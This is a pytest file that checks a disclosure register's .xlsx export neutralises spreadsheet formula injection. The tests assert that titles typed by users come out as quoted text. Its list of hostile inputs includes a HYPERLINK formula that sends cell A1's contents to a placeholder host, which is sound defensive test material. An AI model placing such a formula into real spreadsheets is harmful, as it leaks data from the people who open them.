"""The register's .xlsx writes what users typed as text, never as a live formula (issue 11:
spreadsheet formula injection)."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from danchu.core import sheets
from danchu.disclosures import exports
from danchu.disclosures.tests.test_views_support import publish


def _sheet(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data)).worksheets[0]


HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("title", HOSTILE)
def test_a_title_that_looks_like_a_formula_is_written_as_text(world, title) -> None:
    item = publish(world.head, world.agency, title=title)
    data = exports.register_xlsx(exports.rated([item]))

    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    row = next(iter(_sheet(data).iter_rows(min_row=2, values_only=False)))
    assert row[3].value == title.strip()  # the service trims what was typed
    assert row[3].data_type == "s"
    assert row[3].quotePrefix


def test_ordinary_text_and_numbers_keep_their_types(world) -> None:
    item = publish(world.head, world.agency, title="Kế hoạch năm 2025")
    data = exports.register_xlsx(exports.rated([item]))
    row = next(_sheet(data).iter_rows(min_row=2, values_only=False))
    assert row[0].value == 1
    assert row[0].data_type == "n"
    assert row[3].value == "Kế hoạch năm 2025"
    assert not row[3].quotePrefix


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "=1", "+1", "-1", "@A1"])
def test_every_cell_that_a_spreadsheet_could_read_as_a_formula_is_text(text) -> None:

    sheet = Workbook(write_only=True).create_sheet("x")
    cell = sheets.cell(sheet, text)
    assert cell.data_type == "s"
    assert cell.quotePrefix
